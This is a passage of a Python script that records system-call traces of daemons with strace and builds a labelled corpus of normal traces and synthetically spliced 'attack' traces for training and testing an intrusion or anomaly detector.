    rng.shuffle(normal)
    kept = [row for row in recorded if row[0] == "train_normal"]
    kept += [("valid_normal", family, "", calls) for family, calls in normal[len(normal) // 2:]]
    for family, calls in normal[:len(normal) // 2]:
        source = rng.choice([c for daemon, c in foreign if daemon != family])
        calls, wanted, done = list(calls), rng.uniform(0.05, 0.4) * len(calls), 0
        while done < wanted:
            size = rng.randint(8, 50)
            begin = rng.randrange(max(1, len(source) - size))
            place = rng.randrange(len(calls))
            calls[place:place] = source[begin:begin + size]
            done += len(source[begin:begin + size])
        kept.append(("attack", "into " + family, family, calls))
    return kept


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--out", required=True)
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--sessions", type=int, default=3, help="of each daemon for training; as many attacked, twice as many for testing")
    parser.add_argument("--rounds", type=int, default=10, help="bursts of work a session")
    parser.add_argument("--most", type=int, default=60, help="traces kept of one session and set")
    parser.add_argument("--inject", metavar="RECORDED", help="make the injected corpus of this one instead of recording")
    parser.add_argument("--only", default="", help="comma-separated families")
    parser.add_argument("--keep", help="a folder for the raw recordings")
    options = parser.parse_args()
    if options.inject:
        write(options.out, inject(read(options.inject), random.Random(options.seed)))
        return
    if not have("strace"):
        sys.exit("strace is not installed")
    folder = pathlib.Path(options.keep or tempfile.mkdtemp(prefix="whorl-record-"))
    folder.mkdir(parents=True, exist_ok=True)
    folder.chmod(0o755)
    rng = random.Random(options.seed)
    only = set(filter(None, options.only.split(",")))
    recordings = []
    sessions = [(kind, n) for kind, count in (("train_normal", 1), ("attack", 1), ("valid_normal", 2)) for n in range(options.sessions * count)]
    for kind, number in sessions:
        for daemon in DAEMONS:
            if (only and daemon.family not in only) or (kind != "attack" and daemon is AddUser) or (kind == "attack" and not daemon.attack):
                continue
            if not have(*daemon.needs):
                print(f"{daemon.family}: not installed", file=sys.stderr)
                continue
            recordings.append((record_daemon(kind, daemon, folder, number, rng, options.rounds), daemon.attack or ""))
        if kind != "attack" and (not only or "scripts" in only):
            recordings += [(recording, "") for recording in record_scripts(kind, folder, number, rng)]
        print(kind, number, "recorded", flush=True)

    ordinary = {p for r, _ in recordings if r.kind != "attack" for _, programs in r.threads() for p in programs}
    kept, seen = [], set()
    for recording, attack in recordings:
        by_set = {}
        for which, calls in recording.traces(rng, ordinary):
            if tuple(calls) not in seen:  # a copy says nothing new
                seen.add(tuple(calls))
                by_set.setdefault(which, []).append(calls)
        for which, traces in sorted(by_set.items()):
            rng.shuffle(traces)
            for calls in traces[:options.most]:
                row = (which, attack, recording.family) if which == "attack" else (which, recording.family, "")
                kept.append((*row, calls))
    if not options.keep:
        shutil.rmtree(folder, ignore_errors=True)

    write(options.out, kept)
    print(json.dumps({k: sum(1 for t in kept if t[0] == k) for k in ("train_normal", "valid_normal", "attack")}))


if __name__ == "__main__":
    main()
